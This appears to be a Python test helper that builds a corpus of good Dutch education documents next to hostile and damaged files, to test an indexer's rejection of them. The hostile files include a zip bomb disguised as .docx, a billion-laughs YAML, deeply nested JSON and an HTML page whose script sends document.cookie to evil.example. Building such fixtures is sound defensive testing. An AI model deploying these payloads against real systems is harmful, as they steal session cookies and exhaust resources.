"""Generate a corpus of hostile and damaged files next to good Dutch documents (nothing binary
is committed: tests call ``make_corpus(dest)`` at run time).

    python tests/data/broken/make_broken.py /tmp/broken-corpus   # to look at the files

``make_corpus`` returns (bad, good): the relative paths of the files that must be reported as
errors, and the ids of the documents that must be indexed. Build with ``GKA_MAX_FILE_MB=1``:
the "huge" PDF is just over that limit.
"""
from __future__ import annotations

import io
import json
import sys
import zipfile
from pathlib import Path

MAX_FILE_MB = 1  # the size limit the tests build with

GOOD = {
    "praktijkverhalen/voorleesproject-tilburg.md": """---
titel: Voorlezen met ouders in Tilburg
type: praktijkverhaal
gemeenten: [Tilburg]
sectoren: [po]
themas: [taal, ouderbetrokkenheid]
jaar: 2022
---
## Aanpak

Bibliotheek en basisschool nodigen ouders elke week uit om samen met hun kind te lezen.
Vrijwilligers laten zien hoe je een prentenboek voorleest en welke vragen je kunt stellen.
""",
    "praktijkverhalen/schoolkantine-enschede.md": """---
titel: Gezonde schoolkantine in Enschede
type: praktijkverhaal
gemeenten: [Enschede]
sectoren: [vmbo]
themas: [gezondheid]
jaar: 2021
---
## Aanpak

Een vmbo-school in Enschede biedt elke ochtend een gratis ontbijt aan. Leerlingen die zonder
ontbijt naar school kwamen, kunnen zich nu beter concentreren in de eerste les.
""",
    "onderzoek/overgang-po-vo.md": """---
titel: Onderzoek naar de overgang van basisschool naar voortgezet onderwijs
type: onderzoek
themas: [overgangen]
jaar: 2020
---
## Samenvatting

Kinderen van laagopgeleide ouders krijgen vaker een lager schooladvies dan hun toetsscore
rechtvaardigt. Heroverweging van het advies na de eindtoets verkleint dat verschil.
""",
}

SCRIPT_HTML = """<!doctype html><html><head><title>Taalcafe voor ouders in Leiden</title>
<script>document.write('GEHEIMSCRIPT'); fetch('https://evil.example/steal?c=' + document.cookie)</script>
<style>body{background:url(javascript:alert(1))}</style></head>
<body onload="alert('x')"><h1>Taalcafe voor ouders in Leiden</h1>
<p>In het taalcafe oefenen ouders elke dinsdag Nederlands met vrijwilligers van de bibliotheek.</p>
<script>alert('GEHEIMSCRIPT2')</script><iframe src="javascript:alert(3)"></iframe>
<p>Ouders leren zo ook hoe de school werkt en hoe ze hun kind kunnen helpen.</p></body></html>
"""

CP1252_TXT = ("Café-overleg in Groningen: ouders, leraren en de gemeente praten over gelijke kansen. "
              "De coördinator zegt: ‘elk kind verdient een goede start’ – en daar werken we aan.\n").encode("cp1252")

BILLION_LAUGHS = """id: lachen
naam: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]
"""

WRONG_TYPES_YAML = """id: verkeerde-typen
naam: [dit, hoort, een, tekst, te, zijn]
samenvatting: 42
beschrijving: {geneste: mapping}
sectoren: vo
jaar: "nooit"
bewijskracht: 3.14
"""


def _pdf_bytes(text: str, pages: int = 1) -> bytes:
    from fpdf import FPDF

    pdf = FPDF()
    pdf.set_font("helvetica", size=12)
    for _ in range(pages):
        pdf.add_page()
        pdf.multi_cell(0, 8, text)
    return bytes(pdf.output())


def _encrypted_pdf(text: str) -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter()
    for page in PdfReader(io.BytesIO(_pdf_bytes(text))).pages:
        writer.add_page(page)
    writer.encrypt(user_password="geheim", owner_password="eigenaar", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _zip_bomb(path: Path, expanded_mb: int = 300) -> None:
    """A .docx-named zip whose document.xml inflates to ``expanded_mb`` MB of zeros (~300 KB on disk)."""
    chunk = b"\0" * 2**20
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        zf.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>')
        with zf.open("word/document.xml", "w", force_zip64=True) as fh:
            for _ in range(expanded_mb):
                fh.write(chunk)


def _deep_json(depth: int = 100_000) -> str:
    return '{"id": "diep", "naam": "Diep", "x": ' + "[" * depth + "]" * depth + "}"


def make_corpus(dest: Path) -> tuple[dict[str, str], set[str]]:
    """Write the corpus under ``dest``; return ({bad relative path: why}, {good document ids})."""
    dest = Path(dest)
    for rel, text in GOOD.items():
        p = dest / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text(text, encoding="utf-8")
    good = set(GOOD)
    bad: dict[str, str] = {}

    def put(rel: str, data: bytes | str, why: str | None) -> None:
        p = dest / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(data if isinstance(data, bytes) else data.encode("utf-8"))
        if why:
            bad[rel] = why
        else:
            good.add(rel)

    body = "Ouders en school werken samen aan gelijke kansen voor alle kinderen in de wijk. " * 20
    put("onderzoek/goed.pdf", _pdf_bytes(body), None)
    full = _pdf_bytes(body, pages=3)
    put("onderzoek/afgekapt.pdf", full[: len(full) // 2], "truncated PDF")
    put("onderzoek/versleuteld.pdf", _encrypted_pdf(body), "encrypted PDF")
    huge = full[:-6] + b"\n%" + b"x" * int((MAX_FILE_MB + 0.2) * 2**20) + b"\n%%EOF\n"
    put("onderzoek/enorm.pdf", huge, "larger than the size limit")
    put("onderzoek/nep.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"\n%%EOF\n", "PDF full of junk")
    (dest / "onderzoek").mkdir(parents=True, exist_ok=True)
    _zip_bomb(dest / "onderzoek" / "zipbom.docx")
    bad["onderzoek/zipbom.docx"] = "zip bomb named .docx"
    put("onderzoek/geen-zip.docx", b"PK\x03\x04 dit is geen zip" * 10, "not a zip")
    put("interventies/lachen.yaml", BILLION_LAUGHS, "billion laughs YAML")
    put("interventies/verkeerde-typen.yaml", WRONG_TYPES_YAML, "YAML with wrong types")
    put("interventies/diep.json", _deep_json(), "deeply nested JSON")
    put("interventies/kapot.json", '{"id": "kapot", "naam": ', "invalid JSON")
    put("interventies/leeg.yaml", b"", "empty file")
    put("praktijkverhalen/taalcafe-leiden.html", SCRIPT_HTML, None)
    put("praktijkverhalen/cafe-groningen.txt", CP1252_TXT, None)
    put("praktijkverhalen/ruis.txt", bytes(range(256)) * 64 + b"\x00\xff\xfe" * 500, "binary junk .txt")
    put("praktijkverhalen/kapot.md", "---\ntitel: [niet gesloten\n---\nTekst.\n", "broken front matter")
    return bad, good


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "broken-corpus")
    bad_files, good_ids = make_corpus(target)
    print(json.dumps({"bad": bad_files, "good": sorted(good_ids)}, indent=1, ensure_ascii=False))
